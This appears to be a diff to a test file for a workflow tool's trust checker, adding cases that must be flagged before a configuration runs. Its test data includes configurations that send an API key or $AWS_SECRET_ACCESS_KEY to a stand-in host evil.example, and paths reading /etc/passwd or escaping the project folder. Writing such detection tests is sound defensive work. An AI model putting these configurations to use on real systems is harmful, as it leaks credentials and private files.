@@ -36,8 +36,26 @@ ATTACKS: dict[str, tuple[dict[str, Any], str]] = {
     "tool": ({"nodes": {"n": {"tool": "python:code.py:score"}}}, "runs Python: python:code.py:score"),
     "module": ({"metric": "python:code.score"}, "runs Python: python:code.score"),
     "world": (
-        {"nodes": {"n": {"search_actions": "", "environment": "gymnasium", "settings": {"id": "code:World-v0"}}}},
+        {"nodes": {"n": {"tree_search": "gymnasium", "settings": {"id": "code:World-v0"}}}},
         "runs Python: code:World-v0",
+    ),
+    "world that is searched": (
+        {"search": {"nodes.n.settings.id": ["code:World-v0"]}, "nodes": {"n": {"tree_search": "gymnasium"}}},
+        "runs Python: code:World-v0",
+    ),
+    "server that is searched": (
+        {
+            "lm": {"model": "openai/x", "api_key_env": "K"},
+            "search": {"lm.api_base": {"choice": ["http://evil.example"]}},
+        },
+        "K to evil.example",
+    ),
+    "header that is searched": (
+        {
+            "lm": {"model": "openai/x", "api_base": "HTTPS://evil.example", "api_key_env": "K"},
+            "search": {"lm.extra.headers": [{"X": "$AWS_SECRET_ACCESS_KEY"}]},
+        },
+        "AWS_SECRET_ACCESS_KEY, K to evil.example",
     ),
     "reward": ({"optimize": [{"grpo": {"rewards": [{"kind": "python:code.py:score"}]}}]}, "runs Python"),
     "alternative": (
@@ -53,6 +71,10 @@ ATTACKS: dict[str, tuple[dict[str, Any], str]] = {
     "key": (
         {"lm": {"model": "openai/x", "api_base": "https://evil.example/v1", "api_key_env": "OTHER_KEY"}},
         "sends a variable of the environment: OTHER_KEY to evil.example",
+    ),
+    "key to a broken address": (
+        {"lm": {"model": "openai/x", "api_base": "http://[evil.example", "api_key_env": "K"}},
+        "sends a variable of the environment: K to http://[evil.example",
     ),
     "header": (
         {
@@ -80,9 +102,11 @@ ATTACKS: dict[str, tuple[dict[str, Any], str]] = {
     "rows": ({"data": {"file": "csv:/etc/passwd"}}, "reads outside its folder: csv:/etc/passwd"),
     "rows above": ({"data": {"train": "rows.jsonl", "val": "rows.jsonl", "test": "../rows.jsonl"}}, "../rows.jsonl"),
     "rows of a plugin's reader": ({"data": {"file": "s3:bucket/rows"}}, "reads outside its folder: s3:bucket/rows"),
+    "rows of a format": ({"data": {"file": "hf:text"}}, "reads outside its folder: hf:text"),
+    "rows with options": ({"data": {"file": "hf:/etc?split=test"}}, "reads outside its folder: hf:/etc?split=test"),
     "linked rows": ({"data": {"file": "link.jsonl"}}, "reads outside its folder: link.jsonl"),
     "databases": (
-        {"nodes": {"n": {"search_actions": "", "environment": "sql", "settings": {"folder": "/etc"}}}},
+        {"nodes": {"n": {"tree_search": "sql", "settings": {"folder": "/etc"}}}},
         "reads outside its folder: /etc",
     ),
     "file referred to": (
@@ -155,6 +179,45 @@ def test_nobody_is_asked_where_nobody_is_there(folder: Path, name: str) -> None:
 )
 def test_what_only_asks_its_models_is_not_asked_about(folder: Path, changes: dict[str, Any]) -> None:
     assert file_powers(write(**changes)).lines() == []
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["inner/other.txt", "a#b/other.yaml", "~/other.yaml", "python:x/other.yaml", "a\nb/other.yaml", " ", "link.yaml"],
+)
+def test_a_file_referred_to_is_read_whatever_its_name(folder: Path, name: str) -> None:
+    place = folder / ("inner/linked" if name == "link.yaml" else name)
+    place.parent.mkdir(exist_ok=True)
+    place.write_bytes((folder / "inner/other.yaml").read_bytes())
+    (folder / "link.yaml").symlink_to("inner/linked")
+    (place.parent / "deep.py").write_text("open('RAN', 'w').close()\ndef score(text): return {'x': 1}\n")
+    write(nodes={"sort": {"predict": "text -> label"}, "n": {"workflow": name}})
+    assert "runs Python: python:deep.py:score" in str(invoke("eval", "workflow.yaml").exception)
+    assert not (folder / "RAN").exists()
+
+
+def test_a_path_too_long_to_follow_is_asked_about(folder: Path) -> None:
+    nodes = {"sort": {"predict": "text -> label"}, "n": {"workflow": "inner/../" * 900 + "inner/other.yaml"}}
+    assert "reads outside its folder: inner/../" in file_powers(write(nodes=nodes)).lines()[0]
+    assert file_powers(write(description="Read this/that " * 900)).lines() == []
+
+
+def test_the_same_file_elsewhere_is_another_one(folder: Path) -> None:
+    """Its programs and data are others."""
+    write(nodes={"n": {"tool": "mcp:./server.sh#t"}})
+    invoke("trust", "workflow.yaml")
+    (folder / "inner/workflow.yaml").write_bytes(Path("workflow.yaml").read_bytes())
+    assert "not trusted" in str(invoke("eval", "inner/workflow.yaml").exception)
+    assert "not trusted" not in str(invoke("eval", "workflow.yaml").exception)
+
+
+@pytest.mark.parametrize("command", ["./server.sh", "python -u server.sh", "sh -c 'exec ./server.sh'"])
+def test_a_program_in_the_folder_counts(folder: Path, command: str) -> None:
+    (folder / "server.sh").write_text("exit 1\n")
+    write(nodes={"n": {"tool": f"mcp:{command}#t"}})
+    before = file_powers(Path("workflow.yaml")).digest
+    (folder / "server.sh").write_text("evil\n")
+    assert file_powers(Path("workflow.yaml")).digest != before
 
 
 def test_a_file_is_trusted_as_it_is_and_asked_about_again_when_it_changes(folder: Path) -> None:
